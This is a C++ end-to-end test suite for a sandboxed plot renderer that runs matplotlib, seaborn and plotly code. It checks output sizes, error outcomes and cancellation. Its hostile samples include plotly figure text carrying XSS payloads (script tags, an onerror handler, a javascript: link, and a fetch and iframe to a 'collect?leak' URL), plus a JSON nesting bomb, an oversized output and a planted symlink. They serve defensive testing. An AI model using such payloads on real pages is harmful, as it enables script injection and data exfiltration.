// runs::Renderer end to end: a real sandbox Launcher (warm plot and figure zygotes) and a real
// FigureRenderer (Node + Chromium) on one io_context. One process serves every check (a zygote
// start costs seconds): the catalogue is rendered once, all requests submitted together, and the
// hostile and failing renders run in a second batch. Sizes are read from the PNG header.
#include <catch2/catch.hpp>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <optional>
#include <sstream>

#include <boost/asio/io_context.hpp>
#include <boost/asio/steady_timer.hpp>

#include "runs/render_job.hpp"
#include "sandbox/config.hpp"
#include "sandbox/figure_renderer.hpp"
#include "sandbox/launcher.hpp"

namespace asio = boost::asio;
namespace fs = std::filesystem;
namespace runs = plotq::runs;
namespace sb = plotq::sandbox;
using Clock = std::chrono::steady_clock;

namespace {

struct TempDir {
  fs::path path;
  explicit TempDir(const char* prefix) {
    std::string t = (fs::temp_directory_path() / (std::string(prefix) + "XXXXXX")).string();
    REQUIRE(::mkdtemp(t.data()) != nullptr);
    path = t;
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
};

std::string read_text(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

std::string catalogue(const std::string& spec, const std::string& library) {
  fs::path p = fs::path(PLOTQ_SOURCE_DIR) / "tests/catalogue/plots" / spec / "implementations/python" / (library + ".py");
  std::string text = read_text(p);
  REQUIRE(!text.empty());
  return text;
}

// The whole machine of a render: launcher with warm zygotes, figure renderer, Renderer.
struct World {
  TempDir tmp{"plotq-render-tmp-"};
  sb::Config launcher_config;
  asio::io_context io;
  std::unique_ptr<sb::Launcher> launcher;
  std::unique_ptr<sb::FigureRenderer> figures;
  std::unique_ptr<runs::Renderer> renderer;

  World() {
    // The default runs dir and lock dir: jobs cannot see a runs dir under /tmp, and launchers in
    // different processes reserve their uid blocks through the one shared lock dir (a private
    // lock dir lets two of them pick the same uids).
    sb::Config c = sb::config_from_env();
    c.warm_modes = {"plot", "figure"};
    c.sandbox_max_jobs = 2;  // two cores
    c.min_mem_available_mb = 256;
    launcher_config = c;
    launcher = std::make_unique<sb::Launcher>(io, c);
    REQUIRE(launcher->ready());
    launcher->prewarm();
    sb::FigureConfig fc = sb::figure_config_from_env();
    if (::geteuid() != 0) fc.figure_netns = false;
    figures = std::make_unique<sb::FigureRenderer>(io, fc);
    REQUIRE(figures->available());
    figures->start();
    runs::RenderConfig rc;
    rc.render_tmp_dir = tmp.path.string();
    renderer = std::make_unique<runs::Renderer>(io, *launcher, figures.get(), rc);
    auto until = Clock::now() + std::chrono::seconds(180);
    while (!(launcher->zygote_ready("plot") && launcher->zygote_ready("figure")) && Clock::now() < until) {
      if (io.stopped()) io.restart();
      io.run_one_for(std::chrono::milliseconds(100));
    }
    REQUIRE(launcher->zygote_ready("plot"));
    REQUIRE(launcher->zygote_ready("figure"));
  }

  ~World() {
    renderer.reset();
    figures.reset();
    launcher.reset();
  }

  runs::RenderRequest request(const std::string& id, const std::string& library, const std::string& source,
                              std::vector<std::string> themes = {"light"}, double timeout_s = 60) {
    runs::RenderRequest r;
    r.job_id = id;
    r.library = library;
    r.source = source;
    r.themes = std::move(themes);
    r.timeout_s = timeout_s;
    return r;
  }

  // Submits every request at once and drives the loop until all answered. `during` runs on each
  // turn of the loop (tests use it to act while a render runs).
  std::map<std::string, runs::RenderResult> render_all(const std::vector<runs::RenderRequest>& requests,
                                                       std::function<void()> during = nullptr) {
    std::map<std::string, runs::RenderResult> got;
    std::size_t calls = 0;
    for (const auto& r : requests) {
      std::string id = r.job_id;
      renderer->render(r, [&got, &calls, id](runs::RenderResult res) {
        got[id] = std::move(res);
        ++calls;
      });
    }
    auto until = Clock::now() + std::chrono::seconds(300);
    while (calls < requests.size() && Clock::now() < until) {
      if (io.stopped()) io.restart();
      io.run_one_for(std::chrono::milliseconds(20));
      if (during) during();
    }
    REQUIRE(calls == requests.size());
    return got;
  }
};

World& world() {
  static World w;
  return w;
}

const runs::ThemeRun& theme_of(const std::map<std::string, runs::RenderResult>& got, const std::string& id,
                               const std::string& theme) {
  INFO("request " << id << " theme " << theme);
  REQUIRE(got.count(id) == 1);
  REQUIRE(got.at(id).outputs.count(theme) == 1);
  return got.at(id).outputs.at(theme);
}

void check_png(const runs::ThemeRun& r, int width, int height) {
  INFO("theme " << r.theme << " outcome " << r.outcome << ": " << r.message << " stderr: " << r.job.stderr_tail);
  REQUIRE(r.outcome == "ok");
  REQUIRE(r.png);
  auto size = runs::png_size(*r.png);  // the size as the PNG header says, not as anyone reported it
  REQUIRE(size);
  CHECK(size->first == width);
  CHECK(size->second == height);
  CHECK(r.width == width);
  CHECK(r.height == height);
  CHECK(r.png->size() <= runs::kMaxPngBytes);
  CHECK(r.exit_code == 0);
}

// A figure with markup, a script and external URLs in every place a figure can carry text.
const char* kHostileFigure = R"PY(import os
import plotly.graph_objects as go
THEME = os.getenv("ANYPLOT_THEME", "light")
url = "http://198.51.100.7/collect?leak=1"
fig = go.Figure(go.Scatter(x=[1, 2, 3], y=[2, 1, 3], text=["<img src=x onerror=alert(1)>"] * 3,
                           hovertemplate="<script>fetch('" + url + "')</script>"))
fig.update_layout(title="<script>document.title='pwned'</script><a href='javascript:alert(1)'>x</a>",
                  images=[{"source": url, "xref": "paper", "yref": "paper", "x": 0, "y": 1,
                           "sizex": 0.2, "sizey": 0.2}])
fig.add_annotation(text="<iframe src='" + url + "'></iframe>", x=2, y=2)
fig.write_image(f"plot-{THEME}.png")
)PY";

// A figure JSON nested 100,000 deep, written by the plot itself (its one writable file).
const char* kJsonBomb = R"PY(import os
THEME = os.getenv("ANYPLOT_THEME", "light")
with open(f"plot-{THEME}.json", "w") as f:
    f.write('{"data": [' + "[" * 100000 + "]" * 100000 + ']}')
)PY";

// 17 MiB of figure JSON: over the output cap.
const char* kJsonTooLarge = R"PY(import os
THEME = os.getenv("ANYPLOT_THEME", "light")
with open(f"plot-{THEME}.json", "w") as f:
    f.write('{"data": [{"type": "scatter", "y": [' + "1," * (17 * 1024 * 512) + '1]}]}')
)PY";

// Sleeps while the test plants a link in its work dir, then ends without writing.
const char* kWaitForLink = R"PY(# SYMLINK-PLANT-7731
import time
time.sleep(6)
)PY";

const char* kSleeper = R"PY(import time
time.sleep(60)
)PY";

const char* kSecondFile = R"PY(import matplotlib.pyplot as plt
fig, ax = plt.subplots(figsize=(16, 9), dpi=200)
fig.savefig("plot-light.png", dpi=200)
fig.savefig("second.png")
)PY";

const char* kDataCsv = R"PY(import os
import matplotlib.pyplot as plt
import pandas as pd
THEME = os.getenv("ANYPLOT_THEME", "light")
frame = pd.read_csv("data.csv")
fig, ax = plt.subplots(figsize=(16, 9), dpi=200)
ax.bar(frame["name"], frame["value"])
fig.savefig(f"plot-{THEME}.png", dpi=200)
)PY";

}  // namespace

TEST_CASE("real renders of the catalogue, light and dark, at their exact sizes", "[e2e]") {
  World& w = world();
  std::vector<runs::RenderRequest> reqs = {
      w.request("line", "matplotlib", catalogue("line-basic", "matplotlib"), {"light", "dark"}),
      w.request("bar", "matplotlib", catalogue("bar-basic", "matplotlib"), {"light", "dark"}),
      w.request("heatmap", "seaborn", catalogue("heatmap-basic", "seaborn"), {"light", "dark"}),
      w.request("pscatter", "plotly", catalogue("scatter-basic", "plotly"), {"light", "dark"}),
      w.request("psubplots", "plotly", catalogue("subplots-basic", "plotly"), {"light", "dark"}),
      w.request("pie", "matplotlib", catalogue("pie-square", "matplotlib")),
      w.request("histogram", "matplotlib", catalogue("histogram-basic", "matplotlib")),
      w.request("scatter", "matplotlib", catalogue("scatter-basic", "matplotlib")),
      w.request("sscatter", "seaborn", catalogue("scatter-basic", "seaborn")),
      w.request("violin", "seaborn", catalogue("violin-basic", "seaborn")),
      w.request("attribute", "matplotlib", catalogue("fail-attribute", "matplotlib")),
      w.request("missing-library", "matplotlib", catalogue("fail-missing-library", "matplotlib")),
      w.request("value-error", "seaborn", catalogue("fail-value-error", "seaborn")),
      w.request("no-output", "matplotlib", catalogue("fail-no-output", "matplotlib")),
      w.request("wrong-size", "matplotlib", catalogue("fail-wrong-size", "matplotlib")),
  };
  auto got = w.render_all(reqs);

  for (const char* id : {"line", "bar", "heatmap", "pscatter", "psubplots"}) {
    const auto& light = theme_of(got, id, "light");
    const auto& dark = theme_of(got, id, "dark");
    check_png(light, 3200, 1800);
    check_png(dark, 3200, 1800);
    if (light.png && dark.png) CHECK(*light.png != *dark.png);  // the theme reached the plot
  }
  for (const char* id : {"pscatter", "psubplots"}) {
    const auto& r = theme_of(got, id, "light");
    CHECK(r.mode == "figure");
    CHECK(r.draw_s > 0);
    CHECK(r.draw_s < r.wall_s + 120);
  }
  check_png(theme_of(got, "pie", "light"), 2400, 2400);
  for (const char* id : {"histogram", "scatter", "sscatter", "violin"}) check_png(theme_of(got, id, "light"), 3200, 1800);

  const auto& attribute = theme_of(got, "attribute", "light");
  CHECK(attribute.outcome == "plot_error");
  CHECK(attribute.error_class == "AttributeError");
  CHECK(attribute.error_line == 8);
  CHECK(attribute.exit_code == 30);
  CHECK(attribute.message == "The plot raised AttributeError at line 8.");
  CHECK(theme_of(got, "missing-library", "light").error_class == "ModuleNotFoundError");
  CHECK(theme_of(got, "value-error", "light").error_class == "ValueError");

  const auto& none = theme_of(got, "no-output", "light");
  CHECK(none.outcome == "no_output");
  CHECK(none.exit_code == 0);
  CHECK_FALSE(none.png);

  const auto& wrong = theme_of(got, "wrong-size", "light");
  CHECK(wrong.outcome == "canvas_size");
  CHECK(wrong.width == 800);
  CHECK(wrong.height == 600);
  CHECK_FALSE(wrong.png);
  CHECK(wrong.message.find("800x600") != std::string::npos);
}

TEST_CASE("hostile and failing renders end with their own outcome", "[e2e]") {
  World& w = world();
  std::vector<runs::RenderRequest> reqs = {
      w.request("hostile-figure", "plotly", kHostileFigure),
      w.request("bomb", "plotly", kJsonBomb),
      w.request("json-too-large", "plotly", kJsonTooLarge),
      w.request("planted-link", "plotly", kWaitForLink, {"light"}, 30),
      w.request("second-file", "matplotlib", kSecondFile),
      w.request("timeout", "matplotlib", kSleeper, {"light"}, 3),
      w.request("bokeh", "bokeh", "import bokeh\n"),
      w.request("unknown", "ggplot", "x = 1\n"),
      w.request("bad-theme", "matplotlib", "x = 1\n", {"light", "light"}),
  };
  runs::RenderRequest with_data = w.request("data", "matplotlib", kDataCsv);
  with_data.data_csv = "name,value\na,3\nb,5\n";
  reqs.push_back(with_data);

  // The link target is a valid figure: had the host followed the link, the render would succeed.
  TempDir outside{"plotq-render-outside-"};
  fs::path target = outside.path / "figure.json";
  std::ofstream(target) << R"({"data": [{"type": "bar", "x": ["a"], "y": [1]}]})";
  bool planted = false;
  auto plant = [&] {
    if (planted) return;
    std::error_code ec;
    for (const auto& entry : fs::directory_iterator(w.launcher_config.runs_dir, ec)) {
      fs::path plot = entry.path() / "plot.py";
      if (read_text(plot).find("SYMLINK-PLANT-7731") == std::string::npos) continue;
      fs::create_symlink(target, entry.path() / "plot-light.json", ec);
      planted = !ec;
    }
  };
  auto got = w.render_all(reqs, plant);
  REQUIRE(planted);

  const auto& hostile = theme_of(got, "hostile-figure", "light");
  INFO(hostile.message << " " << hostile.figure_code.value_or(""));
  check_png(hostile, 3200, 1800);  // drawn as data: nothing ran, nothing was fetched (figure tests)

  const auto& bomb = theme_of(got, "bomb", "light");
  CHECK(bomb.outcome == "figure_invalid");
  CHECK(bomb.figure_code == "figure_too_deep");
  CHECK(bomb.exit_code == 0);
  CHECK_FALSE(bomb.png);

  const auto& big = theme_of(got, "json-too-large", "light");
  CHECK(big.outcome == "output_too_large");
  CHECK(big.limit == static_cast<double>(runs::kMaxFigureBytes));
  CHECK(big.measured.value_or(0) > static_cast<double>(runs::kMaxFigureBytes));
  CHECK(big.message == "The figure is larger than 16 MiB.");

  const auto& link = theme_of(got, "planted-link", "light");
  CHECK(link.outcome == "output_rejected");
  CHECK_FALSE(link.png);
  CHECK(link.job.message.find("plot-light.json") != std::string::npos);

  const auto& second = theme_of(got, "second-file", "light");
  CHECK(second.outcome == "guard_refused");
  CHECK(second.refusal_rule == "open");
  CHECK(second.error_line == 4);
  CHECK(second.exit_code == 31);
  CHECK_FALSE(second.png);

  const auto& slow = theme_of(got, "timeout", "light");
  CHECK(slow.outcome == "timeout");
  CHECK(slow.timed_out);
  CHECK_FALSE(slow.exit_code);

  CHECK(theme_of(got, "bokeh", "light").outcome == "runtime_unavailable");
  CHECK(theme_of(got, "bokeh", "light").job.attempts == 0);  // no sandbox started
  CHECK(theme_of(got, "unknown", "light").outcome == "invalid_library");
  CHECK(theme_of(got, "bad-theme", "light").outcome == "invalid_request");
  check_png(theme_of(got, "data", "light"), 3200, 1800);
}

TEST_CASE("cancel kills the running theme, skips the next, and draws nothing after the plot step", "[e2e]") {
  World& w = world();
  bool done = false;
  runs::RenderResult result;
  auto req = w.request("cancel-me", "matplotlib", kSleeper, {"light", "dark"}, 60);
  runs::RenderHandle handle = w.renderer->render(req, [&](runs::RenderResult r) {
    result = std::move(r);
    done = true;
  });
  CHECK_FALSE(handle.done());
  // Cancel once the sandbox job is running (its process exists).
  auto until = Clock::now() + std::chrono::seconds(60);
  while (w.launcher->running() == 0 && Clock::now() < until) w.io.run_one_for(std::chrono::milliseconds(20));
  REQUIRE(w.launcher->running() == 1);
  auto t0 = Clock::now();
  handle.cancel();
  until = Clock::now() + std::chrono::seconds(30);
  while (!done && Clock::now() < until) w.io.run_one_for(std::chrono::milliseconds(20));
  REQUIRE(done);
  CHECK(std::chrono::duration<double>(Clock::now() - t0).count() < 10);
  CHECK(handle.done());
  REQUIRE(result.outputs.size() == 2);
  CHECK(result.outputs.at("light").outcome == "cancelled");
  CHECK(result.outputs.at("light").job.attempts >= 1);  // it ran and was killed
  CHECK(result.outputs.at("dark").outcome == "cancelled");
  CHECK(result.outputs.at("dark").job.attempts == 0);  // never started
  CHECK(w.launcher->running() == 0);

  // Cancelled after the plot step: the figure is not drawn, its files are removed.
  done = false;
  result = {};
  req = w.request("cancel-figure", "plotly", catalogue("scatter-basic", "plotly"), {"light", "dark"}, 60);
  handle = w.renderer->render(req, [&](runs::RenderResult r) {
    result = std::move(r);
    done = true;
  });
  // Cancel on the first turn of the loop after the light plot step's process is gone: the step
  // is either answering or its figure is being drawn.
  bool seen_running = false, cancelled = false;
  until = Clock::now() + std::chrono::seconds(120);
  while (!done && Clock::now() < until) {
    if (w.io.stopped()) w.io.restart();
    w.io.run_one_for(std::chrono::milliseconds(5));
    if (w.launcher->running() > 0) seen_running = true;
    if (seen_running && !cancelled && w.launcher->running() == 0) {
      handle.cancel();
      cancelled = true;
    }
  }
  REQUIRE(done);
  REQUIRE(cancelled);
  CHECK(result.outputs.at("light").outcome == "cancelled");
  CHECK_FALSE(result.outputs.at("light").png);
  CHECK(result.outputs.at("light").exit_code == 0);  // the plot step itself had finished
  CHECK(result.outputs.at("dark").outcome == "cancelled");
  CHECK(result.outputs.at("dark").job.attempts == 0);
  // The dropped draw still answers later; its JSON and PNG are removed then.
  auto settle = Clock::now() + std::chrono::seconds(20);
  auto leftovers = [&] {
    std::size_t n = 0;
    std::error_code ec;
    for (const auto& dir : fs::directory_iterator(w.tmp.path, ec))
      for (const auto& f : fs::directory_iterator(dir.path(), ec)) (void)f, ++n;
    return n;
  };
  while (leftovers() > 0 && Clock::now() < settle) {
    if (w.io.stopped()) w.io.restart();
    w.io.run_one_for(std::chrono::milliseconds(50));
  }
  CHECK(leftovers() == 0);
}
